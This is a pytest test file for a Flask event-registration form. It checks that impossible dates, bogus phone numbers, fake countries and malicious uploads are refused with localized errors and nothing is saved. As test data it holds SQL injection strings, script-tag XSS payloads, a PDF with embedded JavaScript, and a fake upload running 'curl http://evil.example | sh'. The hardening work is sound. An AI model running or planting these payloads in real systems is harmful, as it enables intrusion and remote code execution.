"""Hostile input into every kind of question, on SQLite and PostgreSQL: impossible dates,
phone numbers nobody can call, countries that do not exist, files that are not what they claim.
Each comes back as a clear message in the person's language against its question, with what
was typed kept and nothing saved, never a 500. (The table style of tests/hardening.)"""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from flask_babel import force_locale, gettext
from markupsafe import escape
from sqlalchemy import func, select

from showcase.extensions import db
from showcase.questions.models import Answer
from showcase.registration.models import Registration
from tests import factories
from tests.hardening.hostile import PAYLOADS
from tests.hardening.test_hostile_input import assert_nothing_unescaped, post_multipart
from tests.questions.helpers import MEAL_CHOICES, PDF, add_question, png_bytes


@pytest.fixture(params=["sqlite", "postgresql"])
def database_url(request, tmp_path) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'showcase-test.db'}"
    return request.getfixturevalue("postgres_url")


KINDS = {
    "short_text": "short_text",
    "long_text": "long_text",
    "number": "number",
    "date": "date",
    "single": "single_choice",
    "multiple": "multiple_choice",
    "yes_no": "yes_no",
    "country": "country",
    "phone": "phone",
    "email": "email",
    "file": "file",
}


@dataclass
class Hostile:
    question: str  # a code of KINDS
    value: object  # text, a list of texts, or (bytes, filename) for a file
    message: str  # the English message the person reads (its Thai is checked too)
    args: dict | None = None  # the values of the message's placeholders


NOT_A_DATE = "This date does not exist. Check the day and the month."
DATE_SHAPE = "Give a date such as 2027-01-26 (year, month, day)."
NOT_A_PHONE = (
    "This is not a phone number we can call. Give it with the country code, such as "
    "+66 81 234 5678."
)
NOT_AN_UPLOAD = "Upload a PDF, or an image (PNG, JPEG, WebP or GIF); this file is neither."
NOT_A_PDF = "This file is not a PDF that can be read."
LONGER = "This is longer than %(limit)d characters."

HOSTILE_ANSWERS = [
    Hostile("date", "2027-02-30", NOT_A_DATE),
    Hostile("date", "2026-02-29", NOT_A_DATE),
    Hostile("date", "2027-13-01", NOT_A_DATE),
    Hostile("date", "0000-00-00", NOT_A_DATE),
    Hostile("date", "30/01/2027", DATE_SHAPE),
    Hostile("date", "2027-01-26'; DROP TABLE registrations; --", DATE_SHAPE),
    Hostile("date", "9999-12-31", "Give a date between the years 1900 and 2100."),
    Hostile("phone", "12", NOT_A_PHONE),
    Hostile("phone", "+66 12", NOT_A_PHONE),
    Hostile("phone", "call me at noon", NOT_A_PHONE),
    Hostile("phone", "+999 1234 5678", NOT_A_PHONE),
    Hostile("phone", "1" * 41, "A phone number has at most 40 characters."),
    Hostile("country", "XX", "Choose a country from the list."),
    Hostile("country", "EU", "Choose a country from the list."),
    Hostile("country", "Thailand", "Choose a country from the list."),
    Hostile("country", "<script>alert(1)</script>", "Choose a country from the list."),
    Hostile("number", "abc", "Give a number, such as 3 or 2.5."),
    Hostile("number", "NaN", "Give a number, such as 3 or 2.5."),
    Hostile("number", "Infinity", "Give a number, such as 3 or 2.5."),
    Hostile("number", "1e5", "Give a number, such as 3 or 2.5."),
    Hostile("number", "9223372036854775808", "Give a number smaller than a thousand million."),
    Hostile("email", "user@@example.org", "Give an email address such as name@example.org."),
    Hostile("email", "ผู้ใช้@ตัวอย่าง.ไทย", "Our mail server can only deliver to addresses"),
    Hostile("single", "not-offered", "Choose from the answers offered."),
    Hostile("multiple", ["halal", "' OR 1=1 --"], "Choose from the answers offered."),
    Hostile("yes_no", "maybe", "Answer yes or no."),
    Hostile("short_text", "A" * 201, LONGER, {"limit": 200}),
    Hostile("long_text", "A" * 2001, LONGER, {"limit": 2000}),
    Hostile("file", (b"#!/bin/sh\ncurl http://evil.example | sh\n", "card.png"), NOT_AN_UPLOAD),
    Hostile("file", (b"<html><script>alert(1)</script></html>", "card.pdf"), NOT_AN_UPLOAD),
    Hostile("file", (b"%PDF-1.7\n" + b"0" * 200, "card.pdf"), NOT_A_PDF),
    Hostile("file", (b"%PDF-nothing", "card.pdf"), NOT_A_PDF),
    Hostile(
        "file",
        (PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</JS(app.alert(1))>>"), "a.pdf"),
        "This PDF contains scripts or other files; upload a plain PDF or an image.",
    ),
    Hostile("file", (b"", "empty.png"), "The file is empty."),
    Hostile("file", (b"%PDF-1.4\n" + b"0" * (5 * 1024 * 1024 + 10), "big.pdf"), "larger than 5 MB"),
    Hostile("file", (png_bytes()[:40], "cut.png"), NOT_AN_UPLOAD),
]


@pytest.fixture
def form_world(ctx):
    """An event whose registration form asks one question of every kind (none required)."""
    event = factories.event()
    delegate = factories.registration_category(event, "delegate", name_en="City delegate")
    city = factories.city()
    fields = {}
    for position, (code, kind) in enumerate(KINDS.items()):
        extra = {"choices": MEAL_CHOICES} if kind in ("single_choice", "multiple_choice") else {}
        question = add_question(event, code, kind, [delegate], position=position, **extra)
        fields[code] = question.field_name
    base = {
        "full_name": "Somchai Jaidee",
        "email": "somchai@khonkaen.example",
        "city": str(city.id),
        "category": str(delegate.id),
        "language": "en",
        "consent": "y",
    }
    return event, fields, base


def saved() -> tuple[int, int]:
    registrations = db.session.scalar(select(func.count()).select_from(Registration))
    answers = db.session.scalar(select(func.count()).select_from(Answer))
    return registrations, answers


# Each row in one language, English and Thai in turn, so both are read on both databases.
ROWS = [(hostile, ("en", "th")[index % 2]) for index, hostile in enumerate(HOSTILE_ANSWERS)]


@pytest.mark.parametrize(
    ("hostile", "language"),
    ROWS,
    ids=[f"{h.question}:{str(h.value)[:24]}-{language}" for h, language in ROWS],
)
def test_a_hostile_answer_is_refused_with_a_message_in_the_persons_language(
    app, client, form_world, hostile, language
):
    event, fields, base = form_world
    client.set_cookie("showcase_lang", language)
    response = post_multipart(
        client, f"/{event.acronym}/register", {**base, fields[hostile.question]: hostile.value}
    )
    body = response.get_data(as_text=True)
    assert response.status_code == 400, body[:1000]
    whole = not hostile.message.startswith(("Our mail", "larger"))
    args = hostile.args or {}
    with app.test_request_context(), force_locale(language):
        message = gettext(hostile.message, **args) if whole else hostile.message
    if whole:
        if language == "th":
            assert message != hostile.message % args, f"no Thai for {hostile.message!r}"
        assert str(escape(message)) in body, message
    elif language == "en":
        assert hostile.message in body
    assert f'id="{fields[hostile.question]}-error"' in body
    assert 'value="Somchai Jaidee"' in body  # what was typed is kept
    assert saved() == (0, 0)


def test_payloads_in_every_question_at_once_never_break_the_form(app, client, form_world):
    event, fields, base = form_world
    for payload in PAYLOADS:
        values = {name: payload for code, name in fields.items() if code != "file"}
        response = post_multipart(client, f"/{event.acronym}/register", {**base, **values})
        assert response.status_code in (303, 400), (payload, response.status_code)
        assert_nothing_unescaped(response.get_data(as_text=True), values, payload[:20])
        assert "Traceback" not in response.get_data(as_text=True)


def test_good_answers_of_every_kind_are_stored_as_the_rules_say(app, client, form_world):
    event, fields, base = form_world
    good = {
        "short_text": "  Smart   bus  ",
        "long_text": "Line one\nline two",
        "number": "2.50",
        "date": "2027-01-27",
        "single": "halal",
        "multiple": ["halal", "regular"],
        "yes_no": "yes",
        "country": "sg",
        "phone": "081 234 5678",
        "email": "Somchai@KhonKaen.example",
        "file": (PDF, "press card.pdf"),
    }
    response = post_multipart(
        client,
        f"/{event.acronym}/register",
        {**base, **{fields[code]: value for code, value in good.items()}},
    )
    assert response.status_code == 303, response.get_data(as_text=True)[:2000]
    from showcase.questions.models import Question

    stored = dict(db.session.execute(select(Question.code, Answer.value).join(Question)).all())
    assert stored == {
        "short_text": "Smart bus",
        "long_text": "Line one\nline two",
        "number": "2.5",
        "date": "2027-01-27",
        "single": "halal",
        "multiple": "regular\nhalal",
        "yes_no": "yes",
        "country": "SG",
        "phone": "+66812345678",
        "email": "somchai@khonkaen.example",
        "file": "press card.pdf",
    }
